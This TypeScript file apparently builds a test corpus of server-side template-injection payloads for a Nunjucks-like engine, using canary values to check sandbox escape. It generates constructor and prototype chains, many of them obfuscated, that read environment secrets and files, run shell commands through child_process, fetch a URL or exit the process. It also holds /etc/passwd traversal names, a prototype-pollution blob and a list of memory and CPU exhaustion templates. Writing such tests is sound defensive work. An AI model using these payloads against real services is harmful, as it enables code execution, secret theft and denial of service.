/** Every way known to us out of a template language, combined with every way to write it. */

const roots = [
  'range',
  'cycler("a")',
  'joiner(",")',
  't',
  '""',
  '[]',
  '{}',
  '1',
  'true',
  'data',
  'data.f',
  'loop',
  'self',
  'this',
  'globalThis',
  'process',
  'require',
  'module',
  'super',
  'caller',
  'settings',
  '("x" | safe)',
  '([1] | first)',
  '("a" | upper)',
  '"".trim',
  '[].push',
  'undefinedName',
];

/** The ways to say `.constructor` and its like. */
const steps = [
  'constructor',
  '__proto__',
  'prototype',
  '__defineGetter__',
  '__lookupGetter__',
  'mainModule',
  'caller',
  'callee',
];
const spellings = (name: string): string[] => [
  `.${name}`,
  `["${name}"]`,
  `["${name.slice(0, 3)}" ~ "${name.slice(3)}"]`,
  `["${name.slice(0, 3)}" + "${name.slice(3)}"]`,
  `["${[...name].reverse().join('')}" | reverse]`,
  `[["${name}"] | first]`,
  `["${name.toUpperCase()}" | lower]`,
  `["${name}" | safe]`,
  `[data.names[0]]`,
];

const codes = (canaries: Canaries): string[] => [
  'return process.env',
  `return process.env.${canaries.variable}`,
  `return require("fs").readFileSync("${canaries.file}")`,
  `return process.mainModule.require("child_process").execSync("cat ${canaries.file}")`,
  `return fetch("${canaries.url}")`,
  `return process.getBuiltinModule("fs").readFileSync("${canaries.file}", "utf8")`,
  'process.exit()',
];

const wrappers: ((expression: string) => string)[] = [
  (x) => `{{ ${x} }}`,
  (x) => `{% set y = ${x} %}{{ y }}{{ y() }}`,
  (x) => `{% if ${x} %}{{ ${x} | dump }}{% endif %}`,
  (x) => `{% for k, v in ${x} %}{{ k }}{{ v }}{% endfor %}`,
  (x) => `{% macro m(a = ${x}) %}{{ a }}{{ caller() }}{% endmacro %}{% call m() %}{{ ${x} }}{% endcall %}`,
  (x) => `{% include ${x} %}`,
  (x) => `{% extends ${x} %}`,
  (x) => `{% import ${x} as y %}{{ y }}`,
  (x) => `{% filter upper %}{{ ${x} }}{% endfilter %}`,
  (x) => `{{ [1, 2] | sort(false, false, ${x}) | groupby(${x}) | dump }}`,
  (x) => `{{ "x" | replace("x", ${x}) }}{{ [${x}] | join(${x}) }}`,
  (x) => `{{ t(${x}) }}{{ 1 | currency(${x}) }}{{ "2026-01-01" | date(${x}, ${x}) }}`,
];

export interface Canaries {
  /** Name of an environment variable of the service. */
  variable: string;
  file: string;
  /** A listening socket. */
  url: string;
}

/** At least 2,000 payloads, the same ones every time. */
export function attackCorpus(canaries: Canaries): string[] {
  const payloads = new Set<string>();
  const code = codes(canaries);
  let turn = 0;
  for (const root of roots) {
    for (const step of steps) {
      for (const spelling of spellings(step)) {
        const once = `${root}${spelling}`;
        const twice = `${once}${spellings(steps[turn % steps.length]!)[turn % 9]}`;
        const call = `("${code[turn % code.length]!.replaceAll('"', '\\"')}")()`;
        payloads.add(wrappers[turn % wrappers.length]!(once));
        payloads.add(wrappers[(turn + 3) % wrappers.length]!(`${twice}${call}`));
        turn++;
      }
    }
  }
  for (const name of [
    '/etc/passwd',
    canaries.file,
    `file://${canaries.file}`,
    `..${canaries.file}`,
    canaries.url,
    '\\\\host\\share',
    '%2e%2e/x',
  ]) {
    for (const wrap of wrappers) payloads.add(wrap(JSON.stringify(name)));
  }
  return [...payloads];
}

/** Data that tries to be more than data. */
export const hostileData = JSON.stringify({
  data: { f: 'function(){}', names: ['constructor'], toString: 'x', valueOf: 'y' },
  constructor: { prototype: { polluted: true } },
  hasOwnProperty: 1,
}).replace('{', '{"__proto__":{"polluted":true,"f":"x"},');

/** Templates that want all time and memory there is. */
export const bombs: Record<string, string> = {
  'loops inside loops':
    '{% for i in range(99999) %}{% for j in range(99999) %}{% for k in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}',
  'a loop over a great range': '{% for i in range(100000000000) %}x{% endfor %}',
  'a loop that makes lists': '{% for i in range(99999) %}{% set x = range(40000) %}{% endfor %}',
  'a macro that calls itself': '{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}',
  'a template that includes itself': '{% include "bomb" %}{% include "bomb" %}',
  'a text that doubles':
    '{% set s = "0123456789" %}{% for i in range(60) %}{% set s = s ~ s %}{% endfor %}{{ s }}',
  'a list that doubles':
    '{% set s = [1, 2] %}{% for i in range(60) %}{% set s = s.concat(s) %}{% endfor %}{{ s }}',
  'a list that contains itself': '{% set s = [] %}{% set y = s.push(s, s) %}{{ s }}{{ s | dump }}',
  'lists inside lists': '{% set s = [1] %}{% for i in range(50) %}{% set s = [s, s] %}{% endfor %}{{ s }}',
  padding: '{{ "x" | center(999999999) }}',
  replacing:
    '{% set s = "aaaaaaaaaa" %}{% for i in range(12) %}{% set s = s | replace("a", s) %}{% endfor %}{{ s }}',
  indentation:
    '{% set s = "\\n" %}{% for i in range(20) %}{% set s = (s ~ s) | indent(999) %}{% endfor %}{{ s | length }}',
  'powers that sort': '{% for i in range(999) %}{{ range(99999) | sort(true) | length }}{% endfor %}',
  'a regular expression': '{{ "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!" | replace(r/^(a+)+$/, "") }}',
  'deep parentheses': `{{ ${'('.repeat(60_000)}1${')'.repeat(60_000)} }}`,
  'deep ifs': `${'{% if 1 %}'.repeat(20_000)}x${'{% endif %}'.repeat(20_000)}`,
  'elements inside elements': '<b>'.repeat(3_000),
  'tables inside tables': '<table><tr><td>'.repeat(3_000),
  'formats that are each used once':
    '{% for i in range(99999) %}{{ 1 | number(culture="en-x-a" ~ i) }}{% endfor %}',
  'blanks before a tag': `${' '.repeat(900_000)}x{%- if 1 %}{% endif %}`,
  'an endless sum': `{{ ${'1+'.repeat(300_000)}1 }}`,
};
